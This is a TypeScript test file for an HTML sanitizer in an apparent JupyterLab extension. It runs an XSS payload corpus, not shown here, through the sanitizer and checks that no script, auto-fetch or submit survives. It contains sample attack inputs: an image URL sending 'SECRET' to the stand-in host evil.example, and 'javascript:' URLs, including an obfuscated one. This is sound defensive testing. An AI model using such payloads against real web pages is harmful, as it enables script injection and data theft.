import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

import { Parser } from 'htmlparser2';
import { marked } from 'marked';

import { hardenHtml, imageHost, isLoadableImage, REMOTE_IMAGE_CLASS } from '../src/untrusted';

// the corpus the notebook widget's tests use too (tests/xss_corpus.json at the repository's root)
const ROOT = join(__dirname, '..', '..', '..');
const CORPUS = JSON.parse(readFileSync(join(ROOT, 'tests', 'xss_corpus.json'), 'utf8')) as {
  payloads: { name: string; markdown: string }[];
  benign: string;
};
const EVIL = 'evil.example';

function payloads(): [string, string][] {
  return CORPUS.payloads.map(p => {
    const url = `https://${EVIL}/hit/${p.name}`;
    return [p.name, p.markdown.split('{{HIT}}').join(url).split('{{HIT_PR}}').join(url.slice('https:'.length))];
  });
}

type Element = { tag: string; attrs: Record<string, string> };

function elements(html: string): Element[] {
  const found: Element[] = [];
  const parser = new Parser({ onopentag: (tag, attrs) => found.push({ tag, attrs }) }, { decodeEntities: true });
  parser.write(html);
  parser.end();
  return found;
}

const SAFE_TAGS = new Set([
  'a', 'abbr', 'b', 'blockquote', 'br', 'button', 'code', 'dd', 'del', 'details', 'div', 'dl', 'dt', 'em', 'h1',
  'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'i', 'img', 'input', 'kbd', 'li', 'mark', 'ol', 'p', 'pre', 'q', 's', 'samp',
  'small', 'span', 'strong', 'sub', 'summary', 'sup', 'table', 'tbody', 'td', 'tfoot', 'th', 'thead', 'tr', 'u',
  'ul', 'var'
]);
const SAFE_ATTRIBUTES = new Set([
  'class', 'title', 'lang', 'dir', 'data-jupyter-id', 'href', 'target', 'rel', 'referrerpolicy', 'src', 'alt',
  'width', 'height', 'type', 'data-eca-src', 'data-eca-alt', 'checked', 'disabled', 'align', 'colspan', 'rowspan',
  'start', 'open'
]);

/** What in `html` could run script, fetch without a click, submit, run a command or leave through a scheme. */
function problems(html: string): string[] {
  const found: string[] = [];
  for (const { tag, attrs } of elements(html)) {
    if (!SAFE_TAGS.has(tag)) {
      found.push(`<${tag}>`);
    }
    for (const [name, value] of Object.entries(attrs)) {
      if (!SAFE_ATTRIBUTES.has(name) || name.startsWith('on')) {
        found.push(`<${tag} ${name}>`);
      }
      if (name === 'src' && !/^data:image\/(png|jpe?g|gif|webp|bmp|avif);base64,/.test(value)) {
        found.push(`<${tag} src=${value}>`);
      }
      if (name === 'href') {
        // eslint-disable-next-line no-control-regex
        const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(value.replace(/[\u0000-\u0020]/g, ''));
        if (scheme && !['http', 'https', 'mailto'].includes(scheme[1].toLowerCase())) {
          found.push(`<${tag} href=${value}>`);
        }
      }
      if (value.includes(EVIL) && !['href', 'title', 'data-eca-src'].includes(name)) {
        found.push(`<${tag} ${name}=${value}> fetches`);
      }
    }
    if (tag === 'button' && attrs.class !== REMOTE_IMAGE_CLASS) {
      found.push('a button that is not an image placeholder');
    }
    if (tag === 'input' && (attrs.type !== 'checkbox' || !('disabled' in attrs))) {
      found.push(`<input type=${attrs.type}>`);
    }
    if (tag === 'a' && attrs.href && !(attrs.rel ?? '').includes('noopener')) {
      found.push('a link without rel=noopener');
    }
  }
  return found;
}

for (const [name, markdown] of payloads()) {
  test(`payload ${name}: nothing survives that runs, fetches or submits`, () => {
    // as raw HTML (the worst case: JupyterLab's own sanitizer let everything through) and through markdown
    const raw = hardenHtml(markdown);
    assert.deepEqual(problems(raw), [], raw);
    const rendered = hardenHtml(marked.parse(`Intro **text**\n\n${markdown}\n\nAfter.`, { async: false }) as string);
    assert.deepEqual(problems(rendered), [], rendered);
  });
}

test('the corpus is dangerous without the pass (no straw man)', () => {
  const leaked = payloads().filter(([, md]) => problems(marked.parse(md, { async: false }) as string).length > 0);
  assert.ok(leaked.length >= 40, leaked.map(([n]) => n).join(', '));
});

test('a remote image is a button naming its host, holding the URL for a click', () => {
  const html = hardenHtml(
    marked.parse(`![chart](https://${EVIL}/x.png?q=SECRET) <img srcset="//cdn.${EVIL}/y.png 2x" alt="b">`, {
      async: false
    }) as string
  );
  const buttons = elements(html).filter(e => e.tag === 'button');
  assert.deepEqual(
    buttons.map(b => b.attrs['data-eca-src']),
    [`https://${EVIL}/x.png?q=SECRET`, `//cdn.${EVIL}/y.png`]
  );
  assert.ok(html.includes(`Load image from ${EVIL}: chart`), html);
  assert.ok(html.includes(`Load image from cdn.${EVIL}: b`), html);
  assert.equal(elements(html).filter(e => e.tag === 'img').length, 0, 'no image element before a click');
});

test('inline raster images stay; SVG data and script URLs do not', () => {
  const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
  const html = hardenHtml(`<img src="${png}" alt="dot"><img src="data:image/svg+xml;base64,PHN2Zz4=" alt="svg">`);
  assert.deepEqual(
    elements(html).map(e => [e.tag, e.attrs.src]),
    [
      ['img', png],
      ['span', undefined]
    ]
  );
  assert.equal(isLoadableImage('javascript:alert(1)'), false);
  assert.equal(isLoadableImage('java\tscript:alert(1)'), false);
  assert.equal(isLoadableImage('data:image/png;base64,AA=='), false, 'a click never loads data: either');
  assert.equal(isLoadableImage('https://example.org/a.png'), true);
  assert.equal(isLoadableImage('figures/plot.png'), true);
  assert.equal(imageHost('//cdn.example.org/a.png'), 'cdn.example.org');
  assert.equal(imageHost('figures/plot.png'), 'this server');
});

test('ordinary markdown still renders: bold, lists, code, links, task lists, tables', () => {
  const html = hardenHtml(
    marked.parse(`${CORPUS.benign}\n\n- [x] done\n- [ ] to do\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n`, {
      async: false
    }) as string
  );
  assert.ok(html.includes('<strong>bold text</strong>'), html);
  assert.ok(html.includes('<li>first item</li>'), html);
  assert.ok(/<pre><code class="language-python">def answer\(\):/.test(html), html);
  assert.ok(html.includes('<td align="right">2</td>'), html);
  const link = elements(html).find(e => e.tag === 'a')!;
  assert.equal(link.attrs.href, 'https://example.org/docs');
  assert.equal(link.attrs.rel, 'noopener noreferrer nofollow');
  assert.equal(link.attrs.referrerpolicy, 'no-referrer');
  const boxes = elements(html).filter(e => e.tag === 'input');
  assert.deepEqual(
    boxes.map(b => ['checked' in b.attrs, b.attrs.disabled]),
    [
      [true, 'disabled'],
      [false, 'disabled']
    ]
  );
});
